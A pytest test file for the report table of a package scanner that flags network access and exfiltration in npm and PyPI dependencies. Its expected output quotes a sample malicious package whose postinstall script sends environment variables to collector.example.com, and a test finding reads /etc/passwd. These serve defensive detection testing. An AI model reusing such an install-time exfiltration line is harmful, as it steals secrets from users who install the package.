"""The terminal table: exact text at 80 and 120 columns, worst severity first, named package errors."""

from __future__ import annotations

import dataclasses
import os

import pytest
from click.testing import CliRunner

from egress.cli import main
from egress.model import ScanResult
from egress.report import ReportOptions
from egress.report.table import PIPE_WIDTH, render, report_width
from egress.report.wording import alert_summary

from tests.report.conftest import constructed_result
from tests.report.table_build import critical_package, with_critical

NARROW = """\
┏━━━━━━━━━━━━━━━━┳━━━━━━━━━━┳━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━━━━━━┓
┃                ┃          ┃         ┃                      ┃ Network APIs,  ┃
┃Package         ┃ Severity ┃ Verdict ┃ Alerts               ┃ evidence       ┃
┡━━━━━━━━━━━━━━━━╇━━━━━━━━━━╇━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━━━━━━┩
│zz-evil@6.6.6   │ critical │ network │ critical             │ https.request  │
│                │          │         │ exfiltration         │ setup.js:2     │
│                │          │         │ high installScripts  │                │
│                │          │         │ high                 │                │
│                │          │         │ installTimeNetwork   │                │
│                │          │         │ medium networkAccess │                │
│@acme/net@2.0.0 │ medium   │ network │ medium networkAccess │ https.request  │
│                │          │         │                      │ lib/http.js:12 │
│wrapper@1.0.0   │ low      │ none    │ low                  │ axios (via     │
│                │          │         │ networkViaDependency │ dependency)    │
│odd@0.1 (wheel) │ –        │ partial │ 1 file not analysed  │                │
│left-pad@1.3.0  │ –        │ none    │                      │                │
└────────────────┴──────────┴─────────┴──────────────────────┴────────────────┘
5 packages: 2 network, 1 partial, 2 none
1 package could not be scanned:
  npm:nope@1.0.0: npm package not found: nope
"""

WIDE = """\
┏━━━━━━━━━━━━━━━━┳━━━━━━━━━━┳━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━━━━━━━━━━━━━━┳━━━━━━━━━━━━━━━┓
┃Package         ┃ Severity ┃ Verdict ┃ Alerts                   ┃ Network APIs           ┃ First evidence┃
┡━━━━━━━━━━━━━━━━╇━━━━━━━━━━╇━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━━━━━━━━━━━━━━╇━━━━━━━━━━━━━━━┩
│zz-evil@6.6.6   │ critical │ network │ critical exfiltration    │ https.request          │ setup.js:2    │
│                │          │         │ high installScripts      │                        │               │
│                │          │         │ high installTimeNetwork  │                        │               │
│                │          │         │ medium networkAccess     │                        │               │
│@acme/net@2.0.0 │ medium   │ network │ medium networkAccess     │ https.request          │ lib/http.js:12│
│wrapper@1.0.0   │ low      │ none    │ low networkViaDependency │ axios (via dependency) │               │
│odd@0.1 (wheel) │ –        │ partial │ 1 file not analysed      │                        │               │
│left-pad@1.3.0  │ –        │ none    │                          │                        │               │
└────────────────┴──────────┴─────────┴──────────────────────────┴────────────────────────┴───────────────┘
5 packages: 2 network, 1 partial, 2 none
1 package could not be scanned:
  npm:nope@1.0.0: npm package not found: nope
"""

DETAILS = """\

zz-evil@6.6.6
  at node_modules/zz-evil
  package.json:1:1  scripts.postinstall  [high installScripts]  (installScript, confidence high, runs at install)
      "postinstall": "node setup.js"
  setup.js:2:13  https.request  [critical exfiltration, high installTimeNetwork, medium networkAccess]  (network, confidence high, runs at install)
      https.request('https://collector.example.com/up')
      sends: env

@acme/net@2.0.0
  at node_modules/@acme/net
  lib/http.js:12:5  https.request  [medium networkAccess]  (network, confidence high, runs at runtime)
      const req = https.request(options)
      ← lib/http.js:1 require 'https'
  test/a.test.js:2:1  fetch  (network, confidence high, runs at runtime) [test, not counted]
      fetch(url)

wrapper@1.0.0
  at node_modules/wrapper
  index.js:3:15  axios  [low networkViaDependency]  (dependency, confidence medium, runs at import)
      const axios = require('axios')
      note: imports network client axios

odd@0.1 (wheel)
  at pypi:odd==0.1
  not analysed: odd/bad.py: syntax error at line 3

5 packages: 2 network, 1 partial, 2 none
1 package could not be scanned:
  npm:nope@1.0.0: npm package not found: nope
"""


def test_exact_table_at_80_columns() -> None:
    out = render(with_critical(), ReportOptions(width=80))
    assert out == NARROW
    assert max(len(line) for line in out.splitlines()) <= 80


def test_exact_table_at_120_columns() -> None:
    assert render(with_critical(), ReportOptions(width=120)) == WIDE


def test_verbose_names_each_findings_alert_types_and_severity() -> None:
    out = render(with_critical(), ReportOptions(width=120, verbose=True))
    assert out == WIDE[: WIDE.index("5 packages")] + DETAILS


def test_rows_worst_severity_first_then_name() -> None:
    out = render(with_critical(), ReportOptions(width=120))
    rows = [line.split("│")[1].strip() for line in out.splitlines()
            if line.startswith("│") and line.split("│")[1].strip()]
    assert rows == ["zz-evil@6.6.6", "@acme/net@2.0.0", "wrapper@1.0.0", "odd@0.1 (wheel)", "left-pad@1.3.0"]


def test_same_severity_is_ordered_by_name() -> None:
    evil = critical_package()
    twins = (dataclasses.replace(evil, name="b-evil"), dataclasses.replace(evil, name="A-evil"), evil)
    out = render(ScanResult(packages=twins), ReportOptions(width=120))
    assert [line.split("│")[1].strip() for line in out.splitlines() if "@6.6.6" in line] == [
        "A-evil@6.6.6", "b-evil@6.6.6", "zz-evil@6.6.6"]


def test_alert_summary_is_one_entry_per_type_worst_first_with_counts() -> None:
    evil = critical_package()
    doubled = dataclasses.replace(evil, alerts=evil.alerts + (evil.alerts[1],))
    assert alert_summary(doubled) == (
        "critical exfiltration, high installScripts, high installTimeNetwork, medium networkAccess ×2")


def test_package_errors_are_named_in_the_footer_ten_at_most() -> None:
    errors = tuple(f"node_modules/bad{i}: package.json is not valid JSON: line 2" for i in range(12))
    out = render(ScanResult(packages=(), errors=errors), ReportOptions(width=80))
    footer = out[out.index("0 packages"):]
    assert footer == ("0 packages: 0 network, 0 partial, 0 none\n12 packages could not be scanned:\n"
                      + "".join(f"  node_modules/bad{i}: package.json is not valid JSON: line 2\n"
                                for i in range(10))
                      + "  and 2 more\n")


def test_an_error_message_is_never_cut() -> None:
    long = "node_modules/bad: " + "x" * 150
    out = render(ScanResult(packages=(), errors=(long,)), ReportOptions(width=80))
    assert f"  {long}\n" in out


def test_a_long_name_wraps_inside_80_columns() -> None:
    evil = dataclasses.replace(critical_package(), name="@some-very-long-scope/an-even-longer-package-name")
    out = render(ScanResult(packages=(evil,)), ReportOptions(width=80))
    table = out[: out.index("1 package:")]
    assert max(len(line) for line in table.splitlines()) <= 80
    cells = [line.split("│")[1].strip() for line in table.splitlines() if line.startswith("│")]
    assert "".join(cells) == "@some-very-long-scope/an-even-longer-package-name@6.6.6"


@pytest.mark.parametrize("options, environ, width", [
    (ReportOptions(width=90), {"COLUMNS": "70"}, 90),          # an explicit width wins
    (ReportOptions(color=True), {"COLUMNS": "70"}, 70),        # a terminal: COLUMNS first
    (ReportOptions(color=False), {"COLUMNS": "70"}, PIPE_WIDTH),   # a file or pipe: fixed
    (ReportOptions(color=False), {}, 120),
])
def test_report_width(options: ReportOptions, environ: dict[str, str], width: int) -> None:
    assert report_width(options, environ) == width


def test_a_terminal_without_columns_asks_the_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("shutil.get_terminal_size", lambda fallback: os.terminal_size((93, 30)))
    assert report_width(ReportOptions(color=True), {}) == 93


def test_a_broken_package_json_is_named_under_the_table(tmp_path) -> None:
    """The user's case: the error was on stderr only; now the report itself names it."""
    tree = tmp_path / "node_modules"
    (tree / "good").mkdir(parents=True)
    (tree / "good" / "package.json").write_text('{"name": "good", "version": "1.0.0"}')
    (tree / "good" / "index.js").write_text("require('https').get('https://example.com/')\n")
    (tree / "bad").mkdir()
    (tree / "bad" / "package.json").write_text('{"name": "bad",\n')
    out_file = tmp_path / "report.txt"
    done = CliRunner().invoke(main, ["scan", str(tree), "-o", str(out_file), "--cache-dir", str(tmp_path / "c"),
                                     "-j", "1"])
    assert done.exit_code == 2, done.output
    out = out_file.read_text(encoding="utf-8")
    assert out[out.index("1 package:"):] == (
        "1 package: 1 network, 0 partial, 0 none\n1 package could not be scanned:\n"
        f"  {tree}: node_modules/bad: package.json is not valid JSON: Expecting property name enclosed in "
        "double quotes: line 2 column 1 (char 16)\n")
    row = next(line for line in out.splitlines() if "good@1.0.0" in line)
    assert [cell.strip() for cell in row.split("│")[1:-1]] == [
        "good@1.0.0", "medium", "network", "medium networkAccess", "https.get", "index.js:1"]


def test_six_columns_at_80_when_they_fit_whole() -> None:
    clean = constructed_result().packages[1]
    assert render(ScanResult(packages=(clean,)), ReportOptions(width=80)) == """\
┏━━━━━━━━━━━━━━━┳━━━━━━━━━━┳━━━━━━━━━┳━━━━━━━━┳━━━━━━━━━━━━━━┳━━━━━━━━━━━━━━━┓
┃Package        ┃ Severity ┃ Verdict ┃ Alerts ┃ Network APIs ┃ First evidence┃
┡━━━━━━━━━━━━━━━╇━━━━━━━━━━╇━━━━━━━━━╇━━━━━━━━╇━━━━━━━━━━━━━━╇━━━━━━━━━━━━━━━┩
│left-pad@1.3.0 │ –        │ none    │        │              │               │
└───────────────┴──────────┴─────────┴────────┴──────────────┴───────────────┘
1 package: 0 network, 0 partial, 1 none
"""


def test_first_evidence_is_the_worst_network_alert() -> None:
    from egress.alerts import package_result
    from egress.model import Capability, Confidence, Ecosystem, Finding, FindingKind, PackageArtifact
    from egress.report.table import _first_evidence

    def net(line: int, sources: tuple[str, ...]) -> Finding:
        return Finding(kind=FindingKind.NETWORK, api="socket.socket.connect", module="socket",
                       capability=Capability.CONNECT, file="setup.py", line=line, column=1, snippet="s.connect(a)",
                       confidence=Confidence.HIGH, in_function=False, data_sources=sources)

    artifact = PackageArtifact(Ecosystem.PYPI, "p01", "1.0", read_files=lambda want: iter(()))
    result = package_result(artifact, [net(3, ()), net(4, ("file /etc/passwd",))], [], 1)
    assert _first_evidence(result) == "setup.py:4"
